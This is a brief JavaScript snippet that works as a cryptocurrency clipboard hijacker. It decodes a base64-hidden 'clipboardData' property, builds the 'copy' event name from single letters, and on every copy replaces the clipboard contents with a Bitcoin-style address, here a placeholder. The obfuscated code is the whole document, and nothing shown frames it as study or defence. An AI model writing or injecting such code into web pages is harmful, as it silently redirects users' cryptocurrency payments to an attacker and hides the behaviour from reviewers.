var cb = "Y2xpcGJvYXJkRGF0YQ==";
document["addEventListener"](["c", "o", "p", "y"].join(""), function (v) {
  v[atob(cb)].setData("text/plain", "bc1q" + "exampleexampleexampleexample");
  v.preventDefault();
});
